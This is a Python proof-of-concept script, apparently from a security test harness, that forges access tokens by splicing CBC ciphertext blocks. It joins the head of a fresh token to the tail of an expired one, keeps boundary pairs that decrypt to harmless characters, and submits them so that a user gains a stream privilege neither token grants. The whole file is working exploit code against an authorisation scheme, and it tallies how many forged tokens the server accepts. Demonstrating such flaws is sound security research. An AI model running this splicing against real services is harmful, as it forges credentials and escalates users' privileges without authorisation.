#!/usr/bin/env python3
"""Splices two tokens of one user, offline, into one that allows a stream that neither allows now.

In CBC a block depends only on the one before it. The head of a fresh token, with its timestamps,
and the tail of an expired one, with a stream that is no longer allowed, fit together if the block
at the boundary decrypts to harmless characters inside a string. With thousands of tokens of each
kind, many pairs do.
"""
import time

from common import Envelope, NotTried, Server, arguments, main, report, xor

STREAM = "s" * 200  # any stream of his own, long enough to contain the boundary
WANTED = "stage"
DAY = 86400
MOST_CANDIDATES = 15
HARMLESS = frozenset(set(range(0x20, 0x7F)) - set(b'"\\'))
HIGH_BITS = int.from_bytes(b"\x80" * 16, "big")


def payload(*streams: str) -> str:
    listed = ",".join(f'"{stream}"' for stream in streams)
    return f'{{"room_id":"room1","privilege":{{"1":1,"2":1}},"stream_id_list":[{listed}]}}'


def candidates(fresh: list, old: list) -> list:
    """Tokens of a fresh head and an old tail whose boundary decrypts to harmless characters."""
    inside = range(12, 20)  # blocks that are inside the stream's name, whatever the nonce
    heads = {}
    for token in fresh:
        blocks = token.blocks()
        for at in inside:
            block = int.from_bytes(blocks[at], "big")
            heads.setdefault(block & HIGH_BITS, []).append((block, token, at))
    found = []
    for token in old:
        blocks = token.blocks()
        for at in inside:
            # The AES decryption of the tail's first block: its plaintext, the stream's name, is
            # known.
            decrypted = int.from_bytes(xor(blocks[at], STREAM[:16].encode()), "big")
            for block, head, end in heads.get(decrypted & HIGH_BITS, ()):
                if HARMLESS.issuperset((decrypted ^ block).to_bytes(16, "big")):
                    joined = head.blocks()[1 : end + 1] + blocks[at + 1 :]
                    found.append(Envelope(head.expire, head.iv, b"".join(joined)).token())
                    if len(found) == MOST_CANDIDATES:
                        return found
    return found


def attack(options) -> int:
    with Server(options.server) as server:
        server.check()
        expected = {"user": "mallory", "room": "room1", "stream": WANTED}
        now = int(time.time())
        # Only tokens of mallory: fresh ones for his own stream, old ones from when he could
        # publish the stage as well.
        fresh = [server.mint("mallory", payload(STREAM)) for _ in range(options.each)]
        then = now - DAY
        old = [
            server.mint("mallory", payload(STREAM, WANTED), now=then) for _ in range(options.each)
        ]
        if any(server.accepts(token, **expected) for token in (fresh[0], old[0])):
            raise NotTried("a token allows the stream already")
        tried = candidates([*map(Envelope.of, fresh)], [*map(Envelope.of, old)])
        accepted = sum(server.accepts(token, **expected) for token in tried)
        more = f" ({len(fresh)} fresh and {len(old)} expired tokens paired)"
        return report("splicing", len(tried), server.requests, accepted, more)


if __name__ == "__main__":
    parser = arguments(__doc__)
    parser.add_argument("--each", type=int, default=3000, help="tokens of each kind")
    main(attack, parser.parse_args())
